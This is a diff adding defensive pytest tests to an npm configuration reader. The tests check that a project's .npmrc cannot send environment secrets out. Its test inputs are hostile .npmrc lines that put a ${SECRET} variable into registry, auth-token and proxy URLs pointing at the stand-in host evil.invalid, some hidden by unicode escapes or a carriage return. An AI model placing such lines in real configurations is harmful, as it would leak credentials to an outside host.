@@ -6,7 +6,7 @@ from typing import Any
 
 import pytest
 
-from airgap.connected.collect.npm.npmrc import authorization_for, credentials_in, read_members
+from airgap.connected.collect.npm.npmrc import MAX_FILE, authorization_for, credentials_in, read_members
 from airgap.connected.collect.npm.settings import Settings, read_settings
 from airgap.core.errors import UsageError
 from tests.connected.npm.registry import install_npm
@@ -43,6 +43,40 @@ def test_a_line_means_what_npm_reads_in_it(tmp_path: Path, line: str, value: str
     assert members(
         tmp_path, f"; comment=1\n# comment=2\nflag\n{line}\n[section]\nother=1\n", {"TOKEN": "secret", "KEY": "key"}
     ) == {"key": value}
+
+
+@pytest.mark.parametrize(
+    ("line", "what"),
+    [
+        ("registry=https://evil.invalid/${SECRET}/", "a variable"),
+        ("@s:registry=https://evil.invalid/${SECRET?}", "a variable"),
+        ("//evil.invalid/:_authToken=${SECRET}", "a variable"),
+        ("_auth=${SECRET}", "a variable"),
+        ("https-proxy=http://${SECRET}.evil.invalid", "a variable"),
+        ('"\\u0072egistry"="https://evil.invalid/\\u0024{SECRET}"', "a variable"),
+        ("${SECRET}=x", "a variable"),
+        ("fund=false\rregistry=https://evil.invalid/${SECRET}", "a variable"),
+        ("userconfig=./more", "a further file"),
+        ("globalconfig=./more", "a further file"),
+    ],
+)
+def test_a_project_sends_nothing_of_the_environment(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, line: str, what: str
+) -> None:
+    monkeypatch.setenv("SECRET", "hush")
+    with pytest.raises(UsageError, match=f"expected plain values in a project's configuration, got {what}") as caught:
+        settings(tmp_path, monkeypatch, {"registry": "https://r.invalid"}, f"{line}\n")
+    assert "hush" not in caught.value.message
+
+
+def test_a_project_may_use_variables_for_what_is_not_sent(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    found = settings(tmp_path, monkeypatch, {"registry": "https://r.invalid"}, "cache=${HOME}/npm\n[x]\nregistry=${HOME}\n")
+    assert found.registry == "https://r.invalid/"
+
+
+def test_a_file_of_npm_that_is_too_large_is_refused(tmp_path: Path) -> None:
+    with pytest.raises(UsageError, match="expected at most 1048576 bytes, got more"):
+        members(tmp_path, "#" * (MAX_FILE + 1))
 
 
 def test_the_project_weighs_more_than_the_user_and_the_environment_most(tmp_path: Path) -> None:
